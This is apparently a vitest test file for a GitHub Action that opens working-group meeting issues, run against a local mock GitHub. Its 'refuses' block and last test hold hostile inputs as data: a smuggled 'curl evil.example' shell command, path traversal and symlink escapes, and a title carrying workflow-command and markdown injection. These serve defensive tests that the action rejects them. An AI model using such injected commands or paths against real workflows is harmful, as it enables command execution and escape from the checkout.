import { symlink } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { serveGithub } from '../github/serve.ts'
import type { World } from '../github/world.ts'
import { makeFolder } from '../meeting-issue/child.ts'
import { HOME, issuesWith, seriesWith, smallGitHub, TOKEN, workspaceTexts } from '../meeting-issue/stage.ts'
import { AT_NOW, type Ran, runAction, shownLog, type Step } from './run-action.ts'

const texts = workspaceTexts(seriesWith(''))

interface Scene extends Partial<Omit<Step, 'inputs' | 'graphqlUrl'>> {
  readonly world?: World
  readonly inputs?: Step['inputs']
}

/** A step against a GitHub of this machine; holds that GitHub knew every question and that no token is shown. */
async function step({ world = smallGitHub(), inputs = {}, ...scene }: Scene): Promise<Ran> {
  const server = serveGithub(world)
  await server.start()
  try {
    const ran = await runAction({
      folder: scene.folder ?? (await makeFolder(texts)),
      graphqlUrl: server.graphqlUrl,
      inputs: { command: `meeting new ${AT_NOW}`, token: TOKEN, ...inputs },
    })
    expect(server.unmodelled).toEqual([])
    for (const place of [shownLog(ran), ran.summary, JSON.stringify(ran.outputs)])
      for (const token of world.tokens.keys()) expect(place).not.toContain(token)
    return ran
  } finally {
    await server.stop()
  }
}

type Rights = Parameters<World['token']>[1]

function worldWith(rights: Rights): World {
  const world = smallGitHub()
  world.token('ghs_theTokenOfTheJob0123456789', rights)
  return world
}

const JOB = { token: 'ghs_theTokenOfTheJob0123456789' }

const WRITES: readonly (readonly [whose: string, rights: Rights])[] = [
  [
    'a job',
    {
      app: 'github-actions',
      permissions: { contents: 'write', issues: 'write', pullRequests: 'write' },
      repositories: [HOME],
    },
  ],
  [
    'an app',
    { app: 'wg-of-example', permissions: { contents: 'read', issues: 'write' }, repositories: 'all' },
  ],
]

test.each(WRITES)(
  'with the token of %s a meeting gets its issue, and the next run has nothing to do',
  async (_whose, rights) => {
    const world = worldWith(rights)
    const first = await step({ world, inputs: JOB })
    expect(first.code).toBe(0)
    const [issue] = issuesWith(world)
    const number = String(issue?.number)
    const url = `https://github.com/${HOME}/issues/${number}`
    expect(first.outputs).toMatchObject({ 'issue-number': number, 'issue-url': url })
    expect(first.outputs['pull-request']).toBeUndefined()
    expect(first.log).toContain(`+ ${HOME}: open the issue: Example Security WG Meeting 2026-12-10`)
    expect(first.summary).toContain('open the issue: Example Security WG Meeting 2026-12-10')
    expect(first.summary).toContain(url)
    const plan = JSON.parse(first.outputs['plan'] ?? '') as { meetings: { changes: { kind: string }[] }[] }
    expect(plan.meetings[0]?.changes.map(({ kind }) => kind)).toEqual(['open-issue'])

    const second = await step({ world, inputs: JOB })
    expect(second.code).toBe(0)
    expect(second.log).toContain('Nothing to do.')
    expect(issuesWith(world)).toHaveLength(1)
  },
)

test('with the token that a fork gets nothing is written, and the annotation says what is missing', async () => {
  const world = worldWith({
    app: 'github-actions',
    permissions: { contents: 'read', issues: 'read', pullRequests: 'read' },
    repositories: [HOME],
  })
  const ran = await step({ world, inputs: JOB })
  expect(ran.code).toBe(1)
  expect(issuesWith(world)).toEqual([])
  expect(ran.log).toMatch(/^::error file=meetings\/security-wg\.yml,line=7,col=\d+,title=[\w-]+::/m)
  expect(ran.log).toContain('may not open an issue')
  expect(ran.log).toContain('issues: write')
  expect(ran.summary).toContain('issues: write')
  expect(ran.outputs['issue-number']).toBeUndefined()

  const dry = await step({ world, inputs: { ...JOB, 'dry-run': 'true' } })
  expect(dry.code).toBe(0)
  expect(dry.summary).toContain('(dry run)')
  expect(dry.log).toContain('This was a dry run: nothing was written.')
})

test('a token that is revoked is told, and not shown', async () => {
  const ran = await step({ inputs: { token: 'ghp_revokedLongAgo0123456789' } })
  expect(ran.code).toBe(1)
  expect(ran.log).toContain('::error title=github-token::GitHub does not accept the token (401).')
  expect(shownLog(ran)).not.toContain('ghp_revokedLongAgo')
})

test('without a token, files are the tracker', async () => {
  const ran = await step({ inputs: { token: '' } })
  expect(ran.code).toBe(0)
  expect(ran.log).toContain('+ meetings/security-wg/2026-12-10.md: write')
  expect(ran.log).not.toContain('add-mask')
})

describe('problems are annotations with the path from the root of the repository', () => {
  const broken = { ...texts, 'members.yml': 'members:\n  - login: ada--example\n' }

  test('at the root', async () => {
    const { log, code } = await step({ folder: await makeFolder(broken), inputs: { command: 'check' } })
    expect(code).toBe(1)
    expect(log).toMatch(/^::error file=members\.yml,line=2,col=12,title=/m)
  })

  test('and in a folder', async () => {
    const inFolder = Object.fromEntries(
      Object.entries(broken).map(([path, text]) => [`groups/a/${path}`, text]),
    )
    const { log, code } = await step({
      folder: await makeFolder(inFolder),
      inputs: { command: 'check', 'working-directory': 'groups/a' },
    })
    expect(code).toBe(1)
    expect(log).toMatch(/^::error file=groups\/a\/members\.yml,line=2,col=12,title=/m)
  })
})

test('`calendar` says where its feeds are', async () => {
  const { outputs, code } = await step({ inputs: { command: `calendar ${AT_NOW}`, out: 'pages', token: '' } })
  expect(code).toBe(0)
  expect(outputs['feeds']).toBe('pages')
})

test('a command that prints text prints it, and the summary has it', async () => {
  const { log, summary, code } = await step({ inputs: { command: `meeting list ${AT_NOW}`, token: '' } })
  expect(code).toBe(0)
  expect(log).toContain('security-wg/2026-12-10')
  expect(summary).toContain('security-wg/2026-12-10')
})

describe('refuses', () => {
  const REFUSALS: readonly (readonly [what: string, inputs: Step['inputs'], says: string])[] = [
    ['a shell', { command: 'check; curl evil.example' }, 'is no command of wg'],
    ['a folder above', { 'working-directory': '..' }, 'leads out of the checkout'],
    ['a link that leads elsewhere', { 'working-directory': 'link' }, 'leads out of the checkout'],
    ['feeds elsewhere', { command: 'calendar', out: '/etc/wg' }, 'lies outside of the checkout'],
    ['feeds behind a link', { command: 'calendar', out: 'link/wg' }, 'lies outside of the checkout'],
  ]

  test.each(REFUSALS)('%s', async (_what, inputs, says) => {
    const folder = await makeFolder(texts)
    await symlink(tmpdir(), join(folder, 'link'))
    const ran = await step({ folder, inputs })
    expect(ran.code).not.toBe(0)
    expect(ran.log).toMatch(/^::error /m)
    expect(ran.log).toContain(says)
  })
})

test('no title commands the runner, breaks the table, tells a person or leads anywhere', async () => {
  const title =
    '::error::gone ##[error]gone a | b </details> @ada-example #1 https://evil.example <!-- %0A::warning::x'
  const [, ...rest] = (texts['meetings/security-wg.yml'] ?? '').split('\n')
  const series = [`title: ${JSON.stringify(title)}`, ...rest].join('\n')
  const ran = await step({ folder: await makeFolder({ ...texts, 'meetings/security-wg.yml': series }) })
  expect(ran.code).toBe(0)
  expect(ran.log).toContain('a | b')
  const commands = shownLog(ran)
    .split('\n')
    .filter((line) => /^\s*::|##\[/.test(line))
  expect(commands).toEqual([])
  const cells = ran.summary.split('\n').filter((line) => line.startsWith('|'))
  for (const row of cells) expect(row.match(/(?<!\\)\|/g)).toHaveLength(5)
  expect(ran.summary).not.toMatch(/@ada|https:\/\/evil|(?<!\\)<!--|(?<!\\)<\/details/)
})
